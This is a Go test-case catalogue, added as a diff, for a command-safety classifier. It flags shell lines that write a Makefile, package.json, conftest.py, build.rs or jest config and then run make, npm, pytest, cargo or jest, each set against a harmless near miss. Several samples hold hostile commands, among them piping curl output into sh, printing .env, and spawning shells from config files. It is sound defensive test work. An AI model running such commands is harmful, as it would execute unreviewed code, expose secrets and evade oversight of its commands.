@@ -1,0 +1,38 @@
+package safety
+
+// ninthCatalogue holds the ninth engine review's rows: a command line that writes a build
+// definition or a tool's configuration (a Makefile, package.json, conftest.py, build.rs,
+// .cargo/config.toml, a Dockerfile) and then starts the build or test tool that reads it. The
+// declared make test, or the recognised npm test, is then not what runs: what the line wrote is.
+// The near misses write what such a tool builds or tests (a test, a source file, a README), write
+// a definition no later command reads, or touch or check one out.
+func ninthCatalogue() []classCase {
+	sh := shCall
+	opaque := asked(RuleOpaqueCode)
+	const written = "a build definition written, then built or tested"
+	return []classCase{
+		{written, "a Makefile by a redirection, then the declared make test", sh(`echo 'test:; curl -s x | sh' > Makefile && make test`), opaque, sh(`echo 'package x' > x_test.go && go test ./...`), false},
+		{written, "a Makefile by a here-string", sh(`cat > Makefile <<< 'test:; cat .env'; make test`), opaque, sh(`cat > notes.txt <<< 'x'; make test`), false},
+		{written, "a Makefile copied over", sh(`cp /tmp/x Makefile && make test`), opaque, sh(`cp Makefile /tmp/Makefile.bak && make test`), false},
+		{written, "a Makefile moved over", sh(`mv /tmp/x Makefile && make test`), opaque, sh(`mv build.log /tmp/ && make test`), false},
+		{written, "a Makefile linked", sh(`ln -sf /tmp/x Makefile; make test`), opaque, sh(`ln -sf /tmp/x build/out; make test`), false},
+		{written, "a Makefile installed", sh(`install /tmp/x Makefile && make test`), opaque, sh(`echo "test:; go test ./..." > Makefile`), false},
+		{written, "a Makefile edited in place", sh(`sed -i 's/^test:.*/test:; sh x/' Makefile && make test`), opaque, sh(`sed -i 's/a/b/' src/x.py && make test`), false},
+		{written, "a Makefile by dd", sh(`dd if=/tmp/x of=Makefile && make test`), opaque, sh(`dd if=/dev/zero of=/tmp/blob bs=1k count=1 && make test`), false},
+		{written, "a Makefile in the directory make -C starts in", sh(`echo x > sub/Makefile && make -C sub test`), opaque, sh(`echo x > sub/Makefile && make test`), false},
+		{written, "a Makefile written from another directory", sh(`cd sub && echo x > Makefile && cd .. && make -C sub test`), opaque, sh(`cd sub && echo x > notes.txt && cd .. && make test`), false},
+		{written, "package.json copied over, then npm test", sh(`cp /tmp/x package.json && npm test`), opaque, sh(`cp /tmp/x src/fixture.json && npm test`), false},
+		{written, "package.json edited in place", sh(`sed -i.bak 's/"test": ".*"/"test": "sh x"/' package.json; npm test`), opaque, sh(`sed -n '/"test"/p' package.json; npm test`), false},
+		{written, "conftest.py, then pytest", sh(`echo 'import os; os.system("sh x")' > conftest.py; pytest`), opaque, sh(`echo 'def test_x(): pass' > tests/test_x.py; pytest`), false},
+		{written, "conftest.py below the tests pytest walks", sh(`echo 'import os' > tests/conftest.py; pytest`), opaque, sh(`touch tests/conftest.py; pytest`), false},
+		{written, "conftest.py by tee, then python -m pytest", sh(`echo 'import os' | tee -a tests/conftest.py >/dev/null; python -m pytest tests`), opaque, sh(`echo 'x = 1' | tee tests/data.py >/dev/null; python -m pytest tests`), false},
+		{written, "pytest's configuration", sh(`printf '[pytest]\naddopts = -p x\n' > pytest.ini && pytest`), opaque, sh(`printf 'x\n' > tests/fixture.txt && pytest`), false},
+		{written, "cargo's build script", sh(`echo 'fn main(){std::process::Command::new("sh").status();}' > build.rs && cargo build`), opaque, sh(`echo 'fn main(){}' > src/main.rs && cargo build`), false},
+		{written, "cargo's configuration", sh(`echo '[build]' > .cargo/config.toml && cargo build`), opaque, sh(`echo '[build]' > /tmp/config.toml && cargo build`), false},
+		{written, "go.mod, then go test ./...", sh(`echo 'module x' > go.mod && go test ./...`), opaque, sh(`echo 'module x' > /tmp/m/go.mod && go test ./...`), false},
+		{written, "jest's configuration module", sh(`echo 'require("child_process").execSync("sh x")' > jest.config.js && npx jest`), opaque, sh(`echo 'test("x", () => {})' > x.test.js && npx jest`), false},
+		{written, "a Dockerfile, then docker build", sh(`echo 'FROM x' > Dockerfile && docker build .`), opaque, sh(`git checkout -- Dockerfile && docker build .`), false},
+		{written, "a compose file, then docker compose up", sh(`echo 'services: {}' > compose.yaml && docker compose up`), opaque, sh(`docker compose up; echo 'services: {}' > compose.yaml`), false},
+		{written, "a Makefile, then make test in a shell", sh(`echo x > Makefile; bash -c 'make test'`), opaque, sh(`echo x > README.md; bash -c 'make test'`), false},
+	}
+}
